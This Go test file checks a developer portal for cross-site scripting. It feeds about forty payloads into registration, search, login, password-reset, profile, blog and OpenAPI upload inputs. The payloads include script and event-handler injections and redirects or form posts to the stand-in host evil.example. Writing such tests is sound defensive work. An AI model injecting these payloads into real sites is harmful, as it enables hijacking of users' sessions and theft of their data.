package portal_test

import (
	"net/url"
	"strings"
	"testing"
)

// payloads are attempts to run a script in other users' browsers.
var payloads = func() (out []string) {
	for _, run := range []string{"alert(1)", "fetch('/portal/api/profile')"} {
		for _, shape := range []string{
			`<script>RUN</script>`, `"><script>RUN</script>`, `'><img src=x onerror=RUN>`, `<svg onload=RUN>`, `<iframe srcdoc="<script>RUN</script>">`, `" autofocus onfocus=RUN x="`,
			`</title><script>RUN</script>`, `</textarea><script>RUN</script>`, `<a href="javascript:RUN">x</a>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=RUN>`,
			`{{"<script>RUN</script>"}}`, `<body onload=RUN>`, `<details open ontoggle=RUN>`, `<input onfocus=RUN autofocus>`, `<style>@import'//evil.example'</style>`,
			`<base href=//evil.example>`, `<meta http-equiv=refresh content=0;url=//evil.example>`, `<form action=//evil.example><button>x`, `<object data="data:text/html,<script>RUN</script>">`, `<ScRiPt/x>RUN</sCrIpT>`,
		} {
			out = append(out, strings.ReplaceAll(shape, "RUN", run))
		}
	}
	return out
}()

// TestPayloads puts scripts into texts that users can write, and checks the pages that show
// them.
func TestPayloads(t *testing.T) {
	w := newWorld(t)
	w.stocked()
	clean := func(p page, payload string) {
		t.Helper()
		if p.status >= 500 || strings.Contains(p.text, payload) {
			t.Errorf("%s: %d shows %q as it is", p.path, p.status, payload)
		}
	}
	register, login := w.open("/auth/password/register"), w.open("/auth/password/login")
	for _, payload := range payloads {
		clean(w.submit(register, "/auth/password/register", "email", payload, "first", payload, "last", payload, "invite_code", payload, "password1", "x", "password2", "x"), payload)
		clean(w.open("/portal/catalogue-products?search="+url.QueryEscape(payload)), payload)
		clean(w.open("/auth/password/login?next="+url.QueryEscape(payload)), payload)
		clean(w.open("/auth/reset/code?token="+url.QueryEscape(payload)), payload)
		clean(w.open("/blog/category/"+url.PathEscape(payload)), payload)
	}
	w.submit(login, "/auth/password/login", "login", "admin@example.com", "password", "secret")
	profile := w.shows(w.open("/portal/private/profile"), 200, "Profile")
	for _, payload := range payloads {
		w.shows(w.submit(profile, "/portal/private/profile", "mode", "save", "first", payload, "last", payload), 200, "saved")
		clean(w.open("/portal/private/profile"), payload)
		clean(w.open("/"), payload)
	}
	for _, payload := range payloads {
		w.upload("POST", "/portal-api/products/1/spec-details/1/oas", "a.yaml", []byte("openapi: 3.0.3\ninfo: {title: "+quote(payload)+", version: '1', description: "+quote(payload)+"}\npaths: {/a: {get: {summary: "+quote(payload)+", description: "+quote(payload)+", tags: ["+quote(payload)+"], responses: {'200': {description: "+quote(payload)+"}}}}}"))
		clean(w.open("/portal/catalogue-products/pets/main/docs"), payload)
	}
}

func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }
